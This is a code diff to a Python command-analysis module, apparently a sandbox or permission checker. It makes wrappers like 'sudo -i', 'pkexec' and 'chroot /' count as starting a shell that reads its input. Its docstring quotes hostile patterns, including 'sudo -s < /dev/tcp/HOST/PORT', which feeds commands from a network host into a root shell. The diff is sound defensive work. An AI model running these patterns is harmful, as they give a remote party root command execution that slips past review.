@@ -29,6 +29,7 @@ import shlex
 
 from cordon.engine.option_lines import program_lines
 from cordon.engine.shell_commands import DYNAMIC, KNOWN_PROGRAMS, base_name
+from cordon.engine.stdin_shells import bare_shell
 
 __all__ = ["WRAPPERS", "command_lines", "option_lines", "unwrap"]
 
@@ -312,9 +313,11 @@ def unwrap(
     None)`` when no program is left. ``outputs`` gets ``(wrapper, file)`` for each file a
     wrapper writes (``strace -o F``, ``time -o F``, ``firejail --output=F``); ``unread`` why
     a wrapper's words could not all be read (an option it does not know, another root
-    directory): the caller asks about them."""
+    directory): the caller asks about them. A wrapper left with no program that starts a
+    shell (``sudo -i``, ``pkexec``, ``chroot /``) runs ``sh``: :func:`_no_program`."""
     i, chdir = 0, None
     xargs: str | None = None
+    prog, seen, positional = "", set[str](), False  # (the last wrapper, its options)
     while i < len(argv):
         prog = base_name(argv[i])
         if prog == "coreutils" and i + 1 < len(argv) and argv[i + 1].startswith(_MULTI_CALL):
@@ -331,7 +334,7 @@ def unwrap(
             return prog, _xargs_items(tuple(argv[i + 1 :]), xargs), chdir
         i += 1
         xargs = "" if prog == "xargs" else xargs
-        positional = prog in _POSITIONAL
+        positional, seen = prog in _POSITIONAL, set()
         watch_exec = False
         while i < len(argv):
             a = argv[i]
@@ -356,6 +359,7 @@ def unwrap(
             found, used = _read_option(prog, a, argv[i + 1] if i + 1 < len(argv) else None, unread)
             i += used
             keys = {k for k, _ in found}
+            seen |= keys
             if prog == "flock" and keys & {"-c", "--command"}:
                 return prog, tuple(argv[i - used :]), chdir  # (flock FILE -c LINE: its own)
             if prog in ("chrt", "taskset", "prlimit") and keys & {"-p", "--pid"}:
@@ -375,6 +379,21 @@ def unwrap(
                     words = ["env", *_split_string(v), *argv[i:]]  # (env reads them on)
                     program, args, inner = unwrap(words, outputs, unread)
                     return program, args, _join(chdir, inner)
+    return _no_program(prog, frozenset(seen), not positional, xargs, chdir)
+
+
+def _no_program(
+    prog: str, opts: frozenset[str], root_given: bool, xargs: str | None, chdir: str | None
+) -> Unwrapped:
+    """What :func:`unwrap` returns when its last wrapper ``prog`` (options ``opts``) is left
+    with no program: ``sh`` when that wrapper then starts a shell, which reads its standard
+    input (:func:`.stdin_shells.bare_shell`; ``xargs sudo -i``: ``sh -c ITEMS``), else no
+    program.
+
+    Attack class: ``echo CMD | sudo -i``, a here-document into ``sudo -s``, ``sudo -s <
+    /dev/tcp/HOST/PORT`` were read as running no program, the text they run unread."""
+    if prog and bare_shell(prog, opts, root_given):
+        return "sh", () if xargs is None else ("-c", DYNAMIC), chdir
     return "", (), None
 
 
